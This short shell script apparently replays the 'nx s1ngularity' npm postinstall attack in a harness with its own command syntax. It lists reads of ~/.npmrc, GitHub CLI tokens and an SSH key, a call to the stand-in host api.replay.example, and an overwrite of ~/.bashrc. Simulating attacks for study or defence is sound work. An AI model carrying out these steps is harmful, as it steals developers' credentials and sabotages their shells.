# nx s1ngularity, August 2025: postinstall looks for tokens, makes a repository of the victim's own public, and has the
# next shell end the session.
export GITHUB_ACTION=__run_1
mkdir -p node_modules/nx && cd node_modules/nx || exit 1
npm_package_name=nx npm_package_version=21.5.0 npm_lifecycle_event=postinstall \
    exec node read "$HOME/.npmrc" , read "$HOME/.config/gh/hosts.yml" , read "$HOME/.ssh/id_inert" , \
    call api.replay.example 443 , write "$HOME/.bashrc" "# what was here ended the session"
